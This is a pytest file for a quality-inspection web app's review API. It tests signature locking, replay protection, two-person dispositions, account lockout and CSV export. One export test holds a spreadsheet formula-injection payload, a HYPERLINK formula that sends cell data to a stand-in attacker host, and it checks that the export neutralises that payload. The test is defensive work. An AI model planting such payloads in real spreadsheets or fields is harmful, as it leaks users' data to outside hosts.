"""A signed decision stays signed, through the JSON API (issue 14 items 1, 3 and 6)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any

from webseed import PASSWORD, Seeded, TestClient

from vinspect.store import session_scope
from vinspect.store.review_queries import audit_rows, is_sampled

Client = Callable[[str | None], tuple[TestClient, str]]


def _review(
    client: TestClient,
    token: str,
    ncr: str,
    decision: str,
    *,
    password: str = PASSWORD,
    key: str | None = None,
    path: str = "review",
) -> Any:
    body = {"decision": decision, "reason": "seen on the image", "password": password}
    if key is not None:
        body["idempotency_key"] = key
    return client.post(f"/api/v1/ncrs/{ncr}/{path}", headers={"X-CSRF-Token": token}, json=body)


def _actions(seeded: Seeded, action: str) -> int:
    with session_scope(seeded.store.engine, readonly=True) as session:
        return sum(1 for r in audit_rows(session=session, limit=100_000) if r.action == action)


def test_a_signed_review_is_not_redone_by_its_signer_or_overturned_by_another_reviewer(
    client_for: Client, seeded: Seeded
) -> None:
    alice, alice_token = client_for("reviewer")
    qe, qe_token = client_for("quality_engineer")
    ncr = seeded.review[0].ncr_uuid
    assert _review(alice, alice_token, ncr, "CONFIRMED_DEFECT").status_code == 200
    again = _review(alice, alice_token, ncr, "NEEDS_MRB")
    assert again.status_code == 409 and "already reviewed" in again.json()["detail"]
    other = _review(qe, qe_token, ncr, "FALSE_REJECT")  # another person, through the review route
    assert other.status_code == 409 and "claimed by" in other.json()["detail"]
    doc = alice.get(f"/api/v1/ncrs/{ncr}").json()
    assert doc["status"] == "UNDER_REVIEW" and doc["review"]["decision"] == "CONFIRMED_DEFECT"
    assert [s["meaning"] for s in doc["signatures"]] == ["REVIEW"]


def test_a_replayed_signed_request_signs_nothing_new(client_for: Client, seeded: Seeded) -> None:
    reviewer, token = client_for("reviewer")
    ncr = seeded.review[1].ncr_uuid
    first = _review(reviewer, token, ncr, "NEEDS_MRB", key="replay-key-0001")
    assert first.status_code == 200
    replay = _review(reviewer, token, ncr, "NEEDS_MRB", key="replay-key-0001")
    assert replay.status_code == 200 and replay.json()["revision"] == first.json()["revision"]
    assert len(replay.json()["signatures"]) == 1
    reused = _review(reviewer, token, seeded.review[2].ncr_uuid, "NEEDS_MRB", key="replay-key-0001")
    assert reused.status_code == 409 and "idempotency key" in reused.json()["detail"]
    header = reviewer.post(
        f"/api/v1/ncrs/{seeded.review[2].ncr_uuid}/review",
        headers={"X-CSRF-Token": token, "Idempotency-Key": "header-key-0002"},
        json={"decision": "NEEDS_MRB", "reason": "unsure", "password": PASSWORD},
    )
    assert header.status_code == 200
    assert (
        reviewer.post(
            f"/api/v1/ncrs/{seeded.review[2].ncr_uuid}/review",
            headers={"X-CSRF-Token": token, "Idempotency-Key": "header-key-0002"},
            json={"decision": "NEEDS_MRB", "reason": "unsure", "password": PASSWORD},
        ).status_code
        == 200
    )
    assert _actions(seeded, "signature.create") == 2


def test_only_a_quality_engineer_supersedes_with_a_reason_and_the_history_shows_it(
    client_for: Client, seeded: Seeded
) -> None:
    reviewer, token = client_for("reviewer")
    qe, qe_token = client_for("quality_engineer")
    ncr = seeded.review[3].ncr_uuid
    assert _review(reviewer, token, ncr, "NEEDS_MRB").status_code == 200
    assert _review(reviewer, token, ncr, "CONFIRMED_DEFECT", path="review/supersede").status_code == 403
    blank = qe.post(
        f"/api/v1/ncrs/{ncr}/review/supersede",
        headers={"X-CSRF-Token": qe_token},
        json={"decision": "CONFIRMED_DEFECT", "reason": "  ", "password": PASSWORD},
    )
    assert blank.status_code == 422
    done = _review(qe, qe_token, ncr, "CONFIRMED_DEFECT", path="review/supersede")
    assert done.status_code == 200, done.text
    doc = done.json()
    assert doc["review"]["decision"] == "CONFIRMED_DEFECT" and doc["status"] == "UNDER_REVIEW"
    assert [e["kind"] for e in doc["history"]][-2:] == ["REVIEWED", "SUPERSEDED"]
    assert [s["meaning"] for s in doc["signatures"]] == ["REVIEW", "REVIEW"] and all(
        s["valid"] for s in doc["signatures"]
    )
    assert "SUPERSEDED" in qe.get(f"/ncrs/{ncr}").text


def test_use_as_is_needs_a_second_person(client_for: Client, seeded: Seeded) -> None:
    qe, token = client_for("quality_engineer")
    ncr = seeded.review[0].ncr_uuid
    assert _review(qe, token, ncr, "CONFIRMED_DEFECT").status_code == 200
    alone = qe.post(
        f"/api/v1/ncrs/{ncr}/disposition",
        headers={"X-CSRF-Token": token},
        json={
            "code": "USE_AS_IS",
            "quantity": 1,
            "justification": "cosmetic, concession C-1",
            "customer_concession_ref": "C-1",
            "password": PASSWORD,
        },
    )
    assert alone.status_code == 409 and "two-person" in alone.json()["detail"]
    scrap = qe.post(
        f"/api/v1/ncrs/{ncr}/disposition",
        headers={"X-CSRF-Token": token},
        json={"code": "SCRAP", "quantity": 1, "password": PASSWORD},
    )
    assert scrap.status_code == 200


def test_a_blind_pass_sample_takes_one_answer(client_for: Client, seeded: Seeded) -> None:
    reviewer, token = client_for("reviewer")
    qe, qe_token = client_for("quality_engineer")
    sampled = next(i for i in seeded.pass_ids if is_sampled(i, 0.2))
    first = reviewer.post(
        f"/api/v1/samples/{sampled}/review",
        headers={"X-CSRF-Token": token},
        json={"decision": "CONFORMS", "reason": "clean", "password": PASSWORD},
    )
    assert first.status_code == 204
    for client, csrf in ((reviewer, token), (qe, qe_token)):
        second = client.post(
            f"/api/v1/samples/{sampled}/review",
            headers={"X-CSRF-Token": csrf},
            json={"decision": "ESCAPE", "reason": "crack", "defect_code": "crack", "password": PASSWORD},
        )
        assert second.status_code == 409
    assert _actions(seeded, "sample.review") == 1


def test_signature_failures_end_the_session_and_lock_the_account(client_for: Client, seeded: Seeded) -> None:
    reviewer, token = client_for("reviewer")
    ncr = seeded.review[1].ncr_uuid
    codes = [_review(reviewer, token, ncr, "FALSE_REJECT", password=f"guess {n}").status_code for n in range(3)]
    assert codes == [403, 403, 401]
    assert reviewer.get("/api/v1/ncrs").status_code == 401  # the session is gone
    fresh, fresh_token = client_for(None)
    for _ in range(2):  # two more failures (login ones) reach the lockout of 5
        assert (
            fresh.post(
                "/api/v1/auth/login",
                headers={"X-CSRF-Token": fresh_token},
                json={"username": "reviewer", "password": "wrong"},
            ).status_code
            == 401
        )
    locked = fresh.post(
        "/api/v1/auth/login", headers={"X-CSRF-Token": fresh_token}, json={"username": "reviewer", "password": PASSWORD}
    )
    assert locked.status_code == 429
    assert _actions(seeded, "signature.failure") == 3


def test_the_state_is_checked_before_the_password(client_for: Client, seeded: Seeded) -> None:
    reviewer, token = client_for("reviewer")
    ncr = seeded.review[2].ncr_uuid
    assert _review(reviewer, token, ncr, "FALSE_REJECT").status_code == 200  # VOID now
    for password in ("wrong guess", PASSWORD):
        assert _review(reviewer, token, ncr, "CONFIRMED_DEFECT", password=password).status_code == 409
    assert _actions(seeded, "signature.failure") == 0


def test_the_api_csv_export_neutralises_formulas(client_for: Client, seeded: Seeded) -> None:
    reviewer, token = client_for("reviewer")
    qe, _ = client_for("quality_engineer")
    ncr = seeded.review[0].ncr_uuid
    reason = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
    assert (
        reviewer.post(
            f"/api/v1/ncrs/{ncr}/review",
            headers={"X-CSRF-Token": token},
            json={"decision": "NEEDS_MRB", "reason": reason, "investigation_notes": "+SUM(1;2)", "password": PASSWORD},
        ).status_code
        == 200
    )
    rows = list(csv.DictReader(io.StringIO(qe.get("/api/v1/export/ncrs?fmt=csv").text)))
    row = next(r for r in rows if r["ncr_uuid"] == ncr)
    assert row["review.reason"] == "'" + reason and row["review.investigation_notes"] == "'+SUM(1;2)"
    exported = json.loads(qe.get("/api/v1/export/ncrs?fmt=json").text)
    assert next(d for d in exported if d["ncr_uuid"] == ncr)["review"]["reason"] == reason


def test_a_resent_review_form_signs_nothing_new(client_for: Client, seeded: Seeded) -> None:
    reviewer, token = client_for("reviewer")
    ncr = seeded.review[3].ncr_uuid
    page = reviewer.get(f"/review/{ncr}").text
    key = page.split('name="idempotency_key" value="', 1)[1].split('"', 1)[0]
    form = {
        "csrf_token": token,
        "decision": "CONFIRMED_DEFECT",
        "defect_code": "scratch",
        "password": PASSWORD,
        "reason": "scratch seen",
        "idempotency_key": key,
    }
    for _ in range(2):
        assert reviewer.post(f"/review/{ncr}", data=form).status_code == 303
    assert "This form was sent before: nothing new was signed." in reviewer.get("/queue").text
    assert len(reviewer.get(f"/api/v1/ncrs/{ncr}").json()["signatures"]) == 1
